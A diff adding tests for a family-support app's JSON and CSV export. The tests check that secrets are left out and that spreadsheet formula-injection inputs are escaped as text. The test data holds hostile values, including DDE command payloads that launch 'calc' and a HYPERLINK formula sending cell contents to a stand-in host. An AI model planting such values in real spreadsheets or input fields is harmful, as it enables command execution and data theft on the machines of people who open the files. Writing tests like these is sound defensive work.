@@ -1,0 +1,107 @@
+import Papa from 'papaparse'
+import { expect, test } from 'vitest'
+import { testServer } from '../../testing/server.ts'
+
+const { aFamily } = await testServer()
+
+test('the family takes everything along as one file, without secrets', async () => {
+  const family = await aFamily()
+  const avi = await family.supporter({ trusted: true })
+  const task = await family.addEvent({ private_details: 'Door code 4711', urgent: true })
+  await avi.take(task)
+  await avi.withdraw(task, 'My car broke down')
+  await family.asOwner('PATCH', '', { house_rules: 'Do not ring', coordinator: avi.id }, { 'if-match': '1' })
+  const reply = await family.asOwner('GET', '/export')
+  expect(reply.headers['content-disposition']).toBe('attachment; filename="hand-in-hand-2026-11-23.json"')
+  expect(reply.headers['content-type']).toContain('application/json')
+  expect(reply.headers['cache-control']).toBe('no-store')
+  const exported = reply.json()
+  expect(exported.family).toMatchObject({ title: 'Levi', house_rules: 'Do not ring', coordinator: 'Avi Cohen', quiet_hours: null })
+  expect(exported.members).toMatchObject([
+    { full_name: 'Noa Levi', role: 'owner', formatted_phone_number: expect.stringMatching(/^\+972/) },
+    { full_name: 'Avi Cohen', role: 'supporter', state: 'approved', trusted: true },
+  ])
+  expect(exported.tasks).toMatchObject([
+    {
+      title: 'Drive Dana',
+      private_details: 'Door code 4711',
+      created_by: 'Noa Levi',
+      taken_by: null,
+      start_at: '2026-11-24T07:40:00+02:00',
+      urgent: true,
+    },
+  ])
+  expect(exported.events).toContainEqual(
+    expect.objectContaining({ kind: 'withdrawn', by: 'Avi Cohen', task: 'Drive Dana', reason: 'My car broke down' }),
+  )
+  expect(exported.messages).toContainEqual(expect.objectContaining({ template: 'approved', to: 'Avi Cohen' }))
+  expect(exported.invitations).toMatchObject([{ created_by: 'Noa Levi', requests: 1 }])
+  const { token } = await family.anInvitation()
+  for (const secret of [family.owner.token, avi.token, token, '_hash', 'parameters']) expect(reply.body).not.toContain(secret)
+})
+
+test('tasks come as a table that a spreadsheet reads as text, in whatever letters', async () => {
+  const family = await aFamily()
+  const hostile = [
+    '=1+2',
+    '=HYPERLINK("http://example.test";"Click")',
+    '+972 50',
+    '-2+3+cmd|" /C calc"!A0',
+    '@SUM(A1)',
+    '\uff1d1+2',
+    'Soup, "hot"',
+    'להסיע את דנה',
+    "O'Hara",
+  ]
+  for (const title of hostile) await family.addTask({ title, description: `\t=1+2\r\n=2, "${title}"` })
+  const reply = await family.asOwner('GET', '/export', undefined, { accept: 'text/csv' })
+  expect(reply.headers['content-type']).toBe('text/csv; charset=utf-8')
+  expect(reply.headers['content-disposition']).toBe('attachment; filename="hand-in-hand-2026-11-23.csv"')
+  expect(reply.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
+  const text = reply.body.replace(/^\ufeff/, '')
+  const [head, ...lines] = Papa.parse<string[]>(text, { newline: '\r\n' }).data
+  expect(head?.slice(0, 4)).toEqual(['title', 'category', 'type', 'status'])
+  expect(lines.map(([title]) => title)).toEqual([
+    ...hostile.slice(0, 6).map((title) => `'${title}`),
+    'Soup, "hot"',
+    'להסיע את דנה',
+    "O'Hara",
+  ])
+  for (const cell of lines.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\0]/)
+  expect(new Set(lines.map((line) => line.length))).toEqual(new Set([head?.length]))
+})
+
+test('a hundred ways to smuggle in a formula are all text, whatever parts the cells', async () => {
+  const family = await aFamily()
+  const heads = ['=', '+', '-', '@', '"=', "'=", ';=', ',=', 'x;=', 'x,@', '\uff1d', '\uff0b', '|', '\u200b=']
+  const bodies = [
+    '1+1',
+    'cmd|"/C calc"!A0',
+    'HYPERLINK("http://e.test?"&A1;"x")',
+    'SUM(1;2)\r\n=2',
+    'IMPORTXML("x","y")',
+    '"";=1',
+    '\t=1',
+    "'",
+  ]
+  const payloads = heads.flatMap((head) => bodies.map((body) => `${head}${body}`))
+  for (const text of payloads) await family.addTask({ title: text, description: `${text}${text}` })
+  const reply = await family.asOwner('GET', '/export', undefined, { accept: 'text/csv' })
+  const text = reply.body.replace(/^\ufeff/, '')
+  const written = Papa.parse<string[]>(text, { newline: '\r\n' }).data
+  // As a spreadsheet parts it that knows of commas, and as one does that begins a new cell at semicolons, tabs and lines.
+  for (const cells of [written.flat(), text.split(/[;\t\r\n]/).map((cell) => cell.replace(/^[ "]+/, ''))]) {
+    expect(cells.filter((cell) => /^[=+\-@\t\r\0\uff1d\uff0b\uff0d\uff20]/.test(cell))).toEqual([])
+  }
+  const bare = (title: string | undefined) => title?.replaceAll("'", '')
+  expect(written.slice(1).map(([title]) => bare(title))).toEqual(payloads.map(bare))
+})
+
+test('names that look like formulas are text as well', async () => {
+  const family = await aFamily()
+  const avi = await family.supporter({ first_name: '=cmd' })
+  const task = await family.addTask()
+  await avi.take(task)
+  const reply = await family.asOwner('GET', '/export', undefined, { accept: 'text/csv' })
+  expect(reply.body).toContain(`,"'=cmd Cohen",`)
+})
